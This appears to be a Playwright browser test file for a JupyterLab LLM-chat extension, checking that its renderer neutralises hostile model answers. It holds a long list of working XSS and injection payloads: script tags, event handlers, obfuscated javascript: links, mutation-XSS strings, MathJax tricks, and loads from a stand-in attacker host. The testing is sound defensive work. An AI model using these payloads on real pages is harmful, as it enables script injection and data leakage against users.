"""A page full of hostile answers in JupyterLab, live and reopened: nothing runs, nothing is fetched or restyled."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from tests.fakes.server import FakeServer

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.browser.lab import Lab, Notebook

pytestmark = pytest.mark.browser

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "hostile"
# JupyterLab shows at most 50 outputs a cell.
PER_CELL = 40
RUN = "window.__pwned=1"
# Each runs script, asks another host, opens something, or covers the page, where it is shown as it is.
ATTACKS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f"text <b onmouseover={RUN} style='position:fixed;top:0;left:0;width:100vw;height:100vh'>cover</b>",
    f"<svg onload='{RUN}'><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle='{RUN}'><summary>more</summary></details>",
    f"<video><source onerror='{RUN}'></video>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<style>body, .jp-Toolbar { display: none !important; background: red !important }</style>",
    "<style>@import url(http://attacker.invalid/import.css);</style>",
    "<link rel=stylesheet href=http://attacker.invalid/link.css>",
    "<link rel=preload as=image href=http://attacker.invalid/preload>",
    "<meta http-equiv=refresh content='0;url=http://attacker.invalid/refresh'>",
    "<base href=http://attacker.invalid/>",
    "<img src=http://attacker.invalid/pixel.png>",
    "<audio src=http://attacker.invalid/a.mp3 autoplay></audio>",
    "<video poster=http://attacker.invalid/poster></video>",
    "<object data=http://attacker.invalid/object></object><embed src=http://attacker.invalid/embed>",
    "<table background=http://attacker.invalid/table><tr><td>cell</td></tr></table>",
    "<div style='background:url(http://attacker.invalid/style)'>styled</div>",
    "<form action=http://attacker.invalid/form><input name=q autofocus><button>send</button></form>",
    f"<button data-commandlinker-command='apputils:run-first-enabled' data-commandlinker-args='{{}}'>{RUN}</button>",
    "![pixel](http://attacker.invalid/markdown.png)",
    "![pixel][1]\n\n[1]: http://attacker.invalid/reference.png",
    "![pixel](//attacker.invalid/scheme.png) ![data](data:image/svg+xml;base64,PHN2Zy8+)",
    f"[link](javascript:{RUN}) [tab](java\tscript:{RUN}) [case](JaVaScRiPt:{RUN}) [entity](javascript&colon;{RUN})",
    f"[reference][2] <javascript:{RUN}>\n\n[2]: javascript:{RUN}",
    f"[data](data:text/html,<script>{RUN}</script>) [blob](blob:x) [file](file:///etc/passwd) [vb](vbscript:x)",
    f"```html\n<script>{RUN}</script>\n```\n`<script>{RUN}</script>`",
    f'```"><script>{RUN}</script>\ncode\n```',
    f"| a | b |\n| - | - |\n| <script>{RUN}</script> | <img src=x onerror={RUN}> |",
    f"# <script>{RUN}</script>\n\n> - <img src=x onerror={RUN}>",
    f"$\\href{{javascript:{RUN}}}{{x}}$ and $$\\href{{java\tscript:{RUN}}}{{y}}$$",
    "$\\require{bbox} \\unicode{x41} \\style{position:fixed}{x} \\class{jp-Dialog}{y} \\cssId{jp-main-content}{z}$",
    "$\\rule{200em}{200em} \\def\\alpha{\\href{javascript:alert(1)}{x}}$",
    "\\(\\href{javascript:alert(1)}{x}\\) \\[\\rule{200em}{200em}\\]",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>\n",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"<!--><img src=x onerror={RUN}>--> <![CDATA[<img src=x onerror={RUN}>]]> <?x <img src=x onerror={RUN}>?>",
    f"<a href=http://attacker.invalid/a ping=http://attacker.invalid/ping id=main name=jupyterapp>{RUN}</a>",
    "\x1b]8;;http://attacker.invalid\x07link\x1b]8;;\x07 \x1b[2J \u202e reversed \u200b \x00",
)
SHOW = """
import json
from pathlib import Path
from IPython.display import display
from llm_magic import rendering

def show(texts):
    for text in texts:
        html = rendering.answer_html(rendering.markdown_html(text))
        display({"text/html": html, "text/plain": rendering.plain_text(text)}, raw=True)

def show_raw(texts):
    for text in texts:
        display({"text/markdown": text}, raw=True)

corpus = json.loads(Path("corpus.json").read_text())
"""


def corpus() -> list[str]:
    """All hostile texts: the ones above and the files of the renderer's own corpus."""
    files = sorted(path for path in FIXTURES.rglob("*") if path.is_file()) if FIXTURES.is_dir() else []
    return [*ATTACKS, *(path.read_text() for path in files)]


def open_corpus(lab: Lab, texts: list[str], function: str, **options: Any) -> Notebook:
    """A notebook whose cells, from the second on, show the texts."""
    (lab.server.folder / "corpus.json").write_text(json.dumps(texts))
    starts = range(0, len(texts), PER_CELL)
    cells = [SHOW, *(f"{function}(corpus[{start}:{start + PER_CELL}])" for start in starts)]
    return lab.open(cells, **options)


def assert_harmless(notebook: Notebook) -> None:
    """Nothing has run, been fetched, opened, or slipped into an output."""
    notebook.settle()
    assert notebook.page.evaluate("() => window.__pwned") is None
    assert notebook.foreign_requests() == []
    assert notebook.watch.intrusions == []
    assert notebook.intruders() == []


@pytest.fixture
def server() -> Iterator[FakeServer]:
    """A server that answers with what it was asked."""
    with FakeServer() as started:
        yield started


def test_hostile_answers_are_harmless_live_and_reopened(lab: Lab) -> None:
    """What the renderer makes of hostile texts does nothing: live, reopened, and reopened by somebody else."""
    texts = corpus()
    notebook = open_corpus(lab, texts, "show")
    notebook.run_cell(0)
    look = notebook.look()

    for cell in range(1, 1 + len(range(0, len(texts), PER_CELL))):
        notebook.run_cell(cell)
        assert len(notebook.saved(cell)) == len(texts[(cell - 1) * PER_CELL : cell * PER_CELL])

    assert_harmless(notebook)
    assert notebook.look() == look
    notebook.save()
    for is_trusted in (True, False):
        reopened = lab.reopen(notebook, is_trusted=is_trusted)
        expect(reopened.output(1).locator(".jp-RenderedHTMLCommon")).to_have_count(min(len(texts), PER_CELL))
        assert_harmless(reopened)


def test_a_hostile_answer_is_harmless_while_it_streams(lab: Lab, server: FakeServer) -> None:
    """The same on its whole way: a server says it, `%%chat` shows it as it comes, the notebook keeps it."""
    texts = [text for text in ATTACKS if "\x00" not in text]
    prompt = "\n\n".join([*texts, "The end of it."])
    environ = {"OPENAI_BASE_URL": server.url, "OPENAI_API_KEY": "sk-canary", "LLM_MAGIC_MODEL": "slow@0.01"}
    notebook = lab.open(["%load_ext llm_magic", f"%%chat --raw\n{prompt}"], environ=environ)
    notebook.run_cell(0)
    look = notebook.look()
    notebook.watch_output(1)

    notebook.run_cell(1)

    expect(notebook.output(1)).to_contain_text("The end of it.")
    assert len(notebook.watched) > 2
    assert_harmless(notebook)
    assert notebook.look() == look
    notebook.save()
    assert_harmless(lab.reopen(notebook))


def test_the_same_answers_bite_where_they_are_shown_as_they_are(lab: Lab) -> None:
    """The corpus is hostile: shown as plain Markdown, it runs and asks for other hosts' files."""
    texts = [text for text in ATTACKS if "refresh" not in text]
    notebook = open_corpus(lab, texts, "show_raw")
    notebook.run_cell(0)

    for cell in range(1, 1 + len(range(0, len(texts), PER_CELL))):
        notebook.run_cell(cell)

    notebook.page.wait_for_function("() => window.__pwned === 1")
    assert any("attacker.invalid" in url for url in notebook.foreign_requests())
    assert notebook.intruders() != []
